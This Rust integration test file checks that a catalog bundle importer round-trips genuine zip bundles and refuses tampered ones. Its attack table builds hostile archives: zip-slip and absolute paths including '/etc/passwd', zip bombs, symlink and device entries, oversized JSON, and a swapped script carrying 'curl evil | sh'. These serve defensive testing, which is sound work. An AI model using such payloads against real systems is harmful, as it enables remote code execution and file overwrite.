//! Manifests and bundles from outside: what is handed out comes back as it was, and what was tampered with does not
//! come in. Each revision of the sample makes the round trip in `roundtrip.rs`.
#![expect(
    clippy::disallowed_methods,
    clippy::unwrap_used,
    reason = "tests look at files, and their helpers fail too"
)]

#[path = "support/acme.rs"]
mod acme;
mod support;

use std::collections::BTreeMap;
use std::io::Cursor;
use std::io::Read as _;
use std::io::Write as _;
use std::path::Path;
use std::process::Output;

use serde_json::Value;
use serde_json::json;
use sha2::Digest as _;

use acme::BASE;
use acme::build;
use acme::site;

fn unzip(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("others can read it");
    let mut files = Vec::new();
    for at in 0..archive.len() {
        let mut file = archive.by_index(at).unwrap();
        let mut content = Vec::new();
        file.read_to_end(&mut content).unwrap();
        files.push((file.name().to_owned(), content));
    }
    files
}

fn zipped(files: &[(String, Vec<u8>)]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in files {
        let options =
            zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        writer.start_file(name.clone(), options).unwrap();
        writer.write_all(content).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn hex(bytes: &[u8]) -> String {
    use std::fmt::Write as _;
    let mut out = String::new();
    for byte in sha2::Sha256::digest(bytes) {
        write!(out, "{byte:02x}").unwrap();
    }
    out
}

/// Makes `SHA256SUMS` true again, as an attacker would.
fn sum(files: &mut [(String, Vec<u8>)]) {
    let mut sorted: Vec<(String, String)> = files
        .iter()
        .filter(|(name, _)| name != "SHA256SUMS")
        .map(|(name, it)| (name.clone(), hex(it)))
        .collect();
    sorted.sort();
    let lines: Vec<String> = sorted.iter().map(|(name, digest)| format!("{digest}  {name}\n")).collect();
    let text = lines.concat();
    files.iter_mut().find(|(name, _)| name == "SHA256SUMS").unwrap().1 = text.into_bytes();
}

/// Changes the manifest and makes its closure and `SHA256SUMS` true again.
fn forge(files: &mut [(String, Vec<u8>)], change: impl Fn(&mut Value)) {
    let manifest = files.iter_mut().find(|(name, _)| name == "import.json").unwrap();
    let mut value: BTreeMap<String, Value> = serde_json::from_slice(&manifest.1).unwrap();
    value.remove("closure");
    let mut whole = serde_json::to_value(&value).unwrap();
    change(&mut whole);
    let digest = hex(serde_json::to_string(&whole).unwrap().as_bytes());
    let mut value: BTreeMap<String, Value> = serde_json::from_value(whole).unwrap();
    value.insert("closure".into(), format!("sha256:{digest}").into());
    manifest.1 = (serde_json::to_string(&value).unwrap() + "\n").into_bytes();
    sum(files);
}

fn of<'a>(files: &'a mut [(String, Vec<u8>)], name: &str) -> &'a mut Vec<u8> {
    &mut files.iter_mut().find(|(path, _)| path == name).unwrap_or_else(|| panic!("no {name}")).1
}

fn import(folder: &Path, bytes: &[u8], arguments: &[&str]) -> Output {
    support::write(folder, "in/bundle.zip", bytes);
    let arguments =
        [&["import", "in/bundle.zip", "--into", "out", "--accept-eula", "acme-software@1"], arguments]
            .concat();
    support::run(folder, &arguments)
}

#[test]
fn a_bundle_has_everything_and_right_st_can_follow_it() {
    let (_folder, site) = site();
    let bytes = std::fs::read(site.join(BASE).join("bundle.zip")).unwrap();
    let mut files = unzip(&bytes);
    let names: Vec<&str> = files.iter().map(|(name, _)| name.as_str()).collect();
    let expected = [
        ".original/base.yml",
        "README.md",
        "SHA256SUMS",
        "alerts.yml",
        "attachments/a.txt",
        "base.yml",
        "eulas/acme-software/1.md",
        "image.yml",
        "import.json",
        "index.html",
        "local.sh",
        "multi-cloud-images/ubuntu/upload.yml",
        "right-scripts/shared@1/attachments/b.txt",
        "right-scripts/shared@1/shared.sh",
        "right-scripts/shared@1@2/it's here.sh",
    ];
    assert_eq!(names, expected);
    let text = String::from_utf8(of(&mut files, "base.yml").clone()).unwrap();
    let expected = "Name: \"Linux: Base\"
Description: |
  A base for **Linux**.

  With two lines.
Inputs:
  SERVER_NAME: \"text: a # b\"
RightScripts:
  Boot:
  - local.sh
  - right-scripts/shared@1/shared.sh
  - \"right-scripts/shared@1@2/it's here.sh\"
  - Name: Remote
    Revision: 3
    Publisher: Nobody Here
  Operational:
  - local.sh
MultiCloudImages:
- multi-cloud-images/ubuntu/upload.yml
- image.yml
- Name: On the spot
  Tags:
  - rs_agent:type=right_link_lite
  Settings:
  - Cloud: Google
    Instance Type: t
    Image: projects/a/images/c
Alerts:
- alerts.yml
";
    assert_eq!(text, expected);
    let page = String::from_utf8(of(&mut files, "index.html").clone()).unwrap();
    // It is verified by making it again: other bytes would make every bundle of older versions look tampered with.
    let golden = support::repository().join("tests/support/acme.html");
    assert_eq!(support::compare(&golden, &page), Ok(()));
    for never in ["<script", "src=", "href=", "http://", "https://", "url("] {
        assert!(!page.contains(never), "{never} in {page}");
    }
    let manifest: Value = serde_json::from_slice(of(&mut files, "import.json")).unwrap();
    assert_eq!(manifest["pinned"], true);
    assert_eq!(manifest["complete"], false);
    assert_eq!(manifest["prerequisites"]["eulas"][0]["recorded"], true);
    let image = std::fs::read(site.join("multi-cloud-images/acme/ubuntu/1/bundle.zip")).unwrap();
    let names: Vec<String> = unzip(&image).into_iter().map(|(name, _)| name).collect();
    assert_eq!(names, ["SHA256SUMS", "import.json", "index.html", "upload-2.yml", "upload.yml"]);
    let odd = std::fs::read(site.join("right-scripts/acme/odd/1/bundle.zip")).unwrap();
    let names: Vec<String> = unzip(&odd).into_iter().map(|(name, _)| name).collect();
    assert_eq!(names, ["SHA256SUMS", "component/Index.html", "import.json", "index.html"]);
}

#[test]
fn what_is_imported_is_clean_and_comes_back_to_the_byte() {
    let (folder, site) = site();
    let root = folder.path();
    for revision in
        [BASE, "right-scripts/acme/odd/1", "multi-cloud-images/acme/ubuntu/1", "right-scripts/other/shared/1"]
    {
        let bytes = std::fs::read(site.join(revision).join("bundle.zip")).unwrap();
        let output = import(root, &bytes, &[]);
        assert_eq!(output.status.code(), Some(0), "{}", support::transcript(&output));
        let last = String::from_utf8_lossy(&output.stdout).lines().last().unwrap_or_default().to_owned();
        assert!(
            last.starts_with("right_st ") && last.contains(" upload ") && last.contains("out/"),
            "{last}"
        );
        let verified = support::run(root, &["verify", "out"]);
        assert_eq!(verified.status.code(), Some(0), "{}", support::transcript(&verified));
        let checked = support::run(root, &["check", "out", "--profile", "compat"]);
        assert_eq!(checked.status.code(), Some(0), "{}", support::transcript(&checked));
        assert_eq!(String::from_utf8_lossy(&checked.stdout), "", "{revision}");
        std::fs::remove_dir_all(root.join("out")).unwrap();

        let output = import(root, &bytes, &["--as", "lineage"]);
        assert_eq!(output.status.code(), Some(0), "{}", support::transcript(&output));
        build(&root.join("out"), &root.join("again"), &["--no-bundles"]);
        let manifest =
            |site: &Path| std::fs::read_to_string(site.join(revision).join("import.json")).unwrap();
        assert_eq!(manifest(&root.join("again")), manifest(&site));
        std::fs::remove_dir_all(root.join("out")).unwrap();
        std::fs::remove_dir_all(root.join("again")).unwrap();
    }
}

#[test]
fn lineages_join_a_catalog_and_never_replace_one() {
    let (folder, site) = site();
    let bytes = std::fs::read(site.join("right-scripts/acme/odd/1/bundle.zip")).unwrap();
    support::write(folder.path(), "out/right-scripts/mine/publication.yml", b"Publisher: Me\n");
    let output = import(folder.path(), &bytes, &["--as", "lineage"]);
    assert_eq!(output.status.code(), Some(0), "{}", support::transcript(&output));
    let before = support::tree(&folder.path().join("out"));
    assert!(
        before.contains_key("right-scripts/odd/1/Index.html") && before.len() == 3,
        "{:?}",
        before.keys()
    );
    let output = import(folder.path(), &bytes, &["--as", "lineage"]);
    assert_eq!(output.status.code(), Some(2), "{}", support::transcript(&output));
    assert_eq!(support::tree(&folder.path().join("out")), before);
}

#[test]
fn some_clouds_only() {
    let (folder, site) = site();
    let root = folder.path();
    let bytes = std::fs::read(site.join(BASE).join("bundle.zip")).unwrap();
    let output = import(root, &bytes, &["--clouds", "EC2 us-east-1"]);
    assert_eq!(output.status.code(), Some(0), "{}", support::transcript(&output));
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(said.contains("left out, since it maps none of these clouds: On the spot"), "{said}");
    let text = std::fs::read_to_string(root.join("out/multi-cloud-images/ubuntu/upload.yml")).unwrap();
    assert!(text.contains("EC2 us-east-1") && !text.contains("Google"), "{text}");
    let text = std::fs::read_to_string(root.join("out/base.yml")).unwrap();
    assert!(text.contains("- image.yml") && !text.contains("On the spot"), "{text}");
    let checked = support::run(root, &["check", "out", "--profile", "compat"]);
    assert_eq!(checked.status.code(), Some(0), "{}", support::transcript(&checked));
    let sums = std::fs::read_to_string(root.join("out/SHA256SUMS")).unwrap();
    for line in sums.lines() {
        let (digest, path) = line.split_once("  ").unwrap();
        assert_eq!(hex(&std::fs::read(root.join("out").join(path)).unwrap()), digest, "{path}");
    }
    std::fs::remove_dir_all(root.join("out")).unwrap();
    let output = import(root, &bytes, &["--clouds", "Google,Nowhere"]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("no image maps the cloud `Nowhere`"));
    assert!(!root.join("out").exists());
}

#[test]
fn what_must_be_accepted_or_fetched_is_said() {
    let (folder, site) = site();
    let root = folder.path();
    let bundle = site.join(BASE).join("bundle.zip");
    let bundle = bundle.to_string_lossy();
    let refused = |arguments: &[&str], code: i32, expected: &str| {
        let output = support::run(root, arguments);
        assert_eq!(output.status.code(), Some(code), "{}", support::transcript(&output));
        let said = support::transcript(&output);
        assert!(said.contains(expected), "{said}");
        assert!(!root.join("out").exists());
    };
    refused(&["import", &bundle, "--into", "out"], 1, "--accept-eula acme-software@1");
    refused(&["import", &bundle, "--into", "out", "--accept-eula", "acme-software@2"], 1, "not accepted");
    refused(&["import", &bundle, "--into", "out", "--accept-eula", "acme"], 2, "acme-software@2");
    let manifest = site.join(BASE).join("import.json");
    let manifest = manifest.to_string_lossy();
    refused(&["import", &manifest, "--into", "out"], 2, "fetch the bundle");
    refused(&["verify", &manifest, "--closure", "sha256:00"], 1, "not the pinned");
    refused(&["verify", "nowhere"], 2, "there is no `nowhere`");

    let entry = |description: &str| {
        format!(
            "{{\"clouds\":null,\"components\":[{{\"content\":null,\"description\":\"{description}\",\"kind\":\"RightScript\",\
             \"name\":\"Local\",\"publisher\":null,\"revision\":0}}],\"credentials\":[],\"format\":\"inventory/1\"}}"
        )
    };
    support::write(root, "other.json", entry("Something else.").as_bytes());
    support::write(root, "same.json", entry("Does it.").as_bytes());
    let accept = ["--accept-eula", "acme-software@1"];
    let with = |inventory: &'static str| {
        [&["import", &bundle, "--into", "out", "--inventory", inventory][..], &accept].concat()
    };
    refused(&with("other.json"), 1, "write over the working copy (HEAD)");
    let output = support::run(root, &with("same.json"));
    assert_eq!(output.status.code(), Some(0), "{}", support::transcript(&output));
    let occupied = support::run(root, &with("same.json"));
    assert_eq!(occupied.status.code(), Some(2), "{}", support::transcript(&occupied));
}

/// An attack: what is changed in the files of a bundle, and what the refusal says.
type Attack = (&'static str, fn(&mut Vec<(String, Vec<u8>)>), &'static str);

#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn attacks_are_refused_and_nothing_is_written() {
    let (folder, site) = site();
    let good = std::fs::read(site.join(BASE).join("bundle.zip")).unwrap();
    let first_file = |value: &mut Value, path: &str| value["components"][4]["files"][0]["path"] = json!(path);
    let attacks: [Attack; 18] = [
        ("zip slip", |files| files.push(("../evil".into(), b"x".to_vec())), "leaves the folder"),
        ("absolute", |files| files.push(("/tmp/evil".into(), b"x".to_vec())), "leaves the folder"),
        ("backslash", |files| files.push(("..\\evil".into(), b"x".to_vec())), "leaves the folder"),
        ("drive", |files| files.push(("C:evil".into(), b"x".to_vec())), "leaves the folder"),
        ("control", |files| files.push(("a\u{1b}[2J".into(), b"x".to_vec())), "leaves the folder"),
        ("long", |files| files.push(("x".repeat(300), b"x".to_vec())), "too long"),
        ("case", |files| files.push(("LOCAL.sh".into(), b"x".to_vec())), "where case does not count"),
        ("file and folder", |files| files.push(("local.sh/x".into(), b"x".to_vec())), "a folder in"),
        (
            "extra",
            |files| {
                files.push(("extra.sh".into(), b"x".to_vec()));
                sum(files);
            },
            "extra.sh: it does not belong",
        ),
        ("missing", |files| files.retain(|(name, _)| name != "local.sh"), "local.sh: it is missing"),
        (
            "swapped script",
            |files| {
                of(files, "local.sh").extend(b"curl evil | sh\n");
                sum(files);
            },
            "local.sh: its bytes are not those",
        ),
        (
            "swapped template",
            |files| {
                let text = String::from_utf8(of(files, "base.yml").clone()).unwrap();
                *of(files, "base.yml") =
                    text.replace("shared@1/shared.sh", "shared@1@2/it's here.sh").into_bytes();
                sum(files);
            },
            "base.yml: it is not what follows",
        ),
        (
            "swapped page",
            |files| {
                of(files, "index.html").extend(b"<script>");
                sum(files);
            },
            "index.html: it is not what follows",
        ),
        (
            "swapped licence",
            |files| {
                of(files, "eulas/acme-software/1.md").extend(b"Be evil.");
                sum(files);
            },
            "1.md: its bytes are not those",
        ),
        (
            "manifest that says something else",
            |files| {
                let text = String::from_utf8(of(files, "import.json").clone()).unwrap();
                *of(files, "import.json") = text.replace("\"revision\":1", "\"revision\":2").into_bytes();
                sum(files);
            },
            "its `closure` is not the digest",
        ),
        (
            "manifest that is not canonical",
            |files| {
                of(files, "import.json").insert(1, b' ');
                sum(files);
            },
            "canonical form",
        ),
        (
            "huge JSON",
            |files| {
                *of(files, "import.json") = vec![b'['; 17 << 20];
                sum(files);
            },
            "are allowed",
        ),
        (
            "deep JSON",
            |files| {
                *of(files, "import.json") = vec![b'['; 100_000];
                sum(files);
            },
            "recursion limit",
        ),
    ];
    let mut bad: Vec<(String, Vec<u8>, &str)> = Vec::new();
    for (what, attack, expected) in attacks {
        let mut files = unzip(&good);
        attack(&mut files);
        bad.push((what.into(), zipped(&files), expected));
    }
    for path in ["../../evil", "/etc/passwd", "a\\b", ""] {
        let mut files = unzip(&good);
        forge(&mut files, |value| first_file(value, path));
        bad.push((format!("manifest naming {path}"), zipped(&files), "import.json: "));
    }
    let mut files = unzip(&good);
    forge(&mut files, |value| value["components"][0]["roles"] = json!(["Boot 9"]));
    bad.push(("manifest with a role that is not there".into(), zipped(&files), "import.json: "));
    bad.push(("cut".into(), good[..good.len() / 2].to_vec(), "cut short"));
    bad.push(("something behind it".into(), [good.as_slice(), b"x"].concat(), "put behind it"));
    bad.push(("something before it".into(), [b"MZ", good.as_slice()].concat(), "directory"));
    bad.push(("empty".into(), Vec::new(), "no zip archive"));
    let mut files = unzip(&good);
    files.push(("lxcal.sh".into(), b"x".to_vec()));
    let twice = patched(&zipped(&files), "lxcal.sh", |name| name.copy_from_slice(b"local.sh"));
    bad.push(("duplicate".into(), twice, "`local.sh` is in it twice"));
    let mut files = unzip(&good);
    files.push(("bomb".into(), vec![0; 4096]));
    bad.push(("bomb that overlaps".into(), overlapping(&zipped(&files)), "does not lie where"));
    bad.push(("bomb that lies of its size".into(), with_size(&good, u32::MAX), ""));
    bad.push(("bomb of 65,535 entries".into(), with_count(&good, u16::MAX), "too many entries"));
    bad.push(("compressed".into(), with_method(&good, 8), "is compressed"));
    bad.push(("link".into(), with_mode(&good, 0o120_777), "is a link"));
    bad.push(("device".into(), with_mode(&good, 0o020_666), "no regular file"));
    for (what, bytes, expected) in &bad {
        let output = import(folder.path(), bytes, &[]);
        let said = support::transcript(&output);
        assert_eq!(output.status.code(), Some(1), "{what}: {said}");
        assert!(said.contains(expected), "{what}: {said}");
        assert!(!folder.path().join("out").exists(), "{what}");
        let verified = support::run(folder.path(), &["verify", "in/bundle.zip"]);
        assert_eq!(verified.status.code(), Some(1), "{what}: {}", support::transcript(&verified));
    }
    assert!(!folder.path().join("evil").exists() && !folder.path().parent().unwrap().join("evil").exists());
    // And what all of them were made from comes in.
    assert_eq!(import(folder.path(), &zipped(&unzip(&good)), &[]).status.code(), Some(0));
}

/// The archive with the name of an entry changed wherever it stands.
fn patched(bytes: &[u8], name: &str, change: impl Fn(&mut [u8])) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    let name = name.as_bytes();
    let mut at = 0;
    while at + name.len() <= bytes.len() {
        if &bytes[at..at + name.len()] == name {
            change(&mut bytes[at..at + name.len()]);
        }
        at += 1;
    }
    bytes
}

/// Where the headers of the first entry are: the local one is the first thing in an archive.
fn central(bytes: &[u8]) -> usize {
    let end = bytes.len() - 22;
    u32::from_le_bytes([bytes[end + 16], bytes[end + 17], bytes[end + 18], bytes[end + 19]]) as usize
}

fn with_method(bytes: &[u8], method: u8) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    let at = central(&bytes);
    bytes[8] = method;
    bytes[at + 10] = method;
    bytes
}

/// The archive with the last entry of its directory leading to what the first one leads to.
fn overlapping(bytes: &[u8]) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    let end = bytes.len() - 22;
    let count = u16::from_le_bytes([bytes[end + 10], bytes[end + 11]]);
    let mut at = central(&bytes);
    for _ in 1..count {
        let length = |at: usize| usize::from(u16::from_le_bytes([bytes[at], bytes[at + 1]]));
        at += 46 + length(at + 28) + length(at + 30) + length(at + 32);
    }
    bytes[at + 42..at + 46].copy_from_slice(&0_u32.to_le_bytes());
    bytes
}

/// The archive with a first entry that says it has `size` bytes.
fn with_size(bytes: &[u8], size: u32) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    let at = central(&bytes);
    for place in [18, 22, at + 20, at + 24] {
        bytes[place..place + 4].copy_from_slice(&size.to_le_bytes());
    }
    bytes
}

/// The archive with a directory that says it has `count` entries.
fn with_count(bytes: &[u8], count: u16) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    let end = bytes.len() - 22;
    for place in [end + 8, end + 10] {
        bytes[place..place + 2].copy_from_slice(&count.to_le_bytes());
    }
    bytes
}

fn with_mode(bytes: &[u8], mode: u32) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    let at = central(&bytes) + 38;
    bytes[at..at + 4].copy_from_slice(&(mode << 16).to_le_bytes());
    bytes
}

#[cfg(unix)]
#[test]
fn a_folder_with_a_link_is_not_whole() {
    let (folder, site) = site();
    let root = folder.path();
    let bytes = std::fs::read(site.join(BASE).join("bundle.zip")).unwrap();
    assert_eq!(import(root, &bytes, &[]).status.code(), Some(0));
    std::fs::rename(root.join("out/local.sh"), root.join("local.sh")).unwrap();
    std::os::unix::fs::symlink(root.join("local.sh"), root.join("out/local.sh")).unwrap();
    let output = support::run(root, &["verify", "out"]);
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stdout).contains("`local.sh` is no regular file"));
    let copied = support::run(root, &["import", "out", "--into", "copy", "--accept-eula", "acme-software@1"]);
    assert_eq!(copied.status.code(), Some(1));
    assert!(!root.join("copy").exists());
}

#[test]
fn a_snapshot_of_a_working_copy_uploads_too() {
    let folder = tempfile::tempdir().unwrap();
    let root = folder.path();
    support::copy(&support::repository().join("tests/sites/plain/catalog"), &root.join("in"), false);
    build(&root.join("in"), &root.join("site"), &[]);
    let bundles: Vec<String> = support::tree(&root.join("site"))
        .into_keys()
        .filter(|name| name.ends_with("head/bundle.zip"))
        .collect();
    assert!(!bundles.is_empty());
    for (at, bundle) in bundles.iter().enumerate() {
        let out = format!("out-{at}");
        let bundle = format!("site/{bundle}");
        let output = support::run(root, &["import", &bundle, "--into", &out]);
        assert_eq!(output.status.code(), Some(0), "{}", support::transcript(&output));
        let checked = support::run(root, &["check", &out, "--profile", "compat"]);
        assert_eq!(checked.status.code(), Some(0), "{}", support::transcript(&checked));
        let output = support::run(root, &["import", &bundle, "--into", "lineage", "--as", "lineage"]);
        assert_eq!(output.status.code(), Some(2), "{}", support::transcript(&output));
    }
}
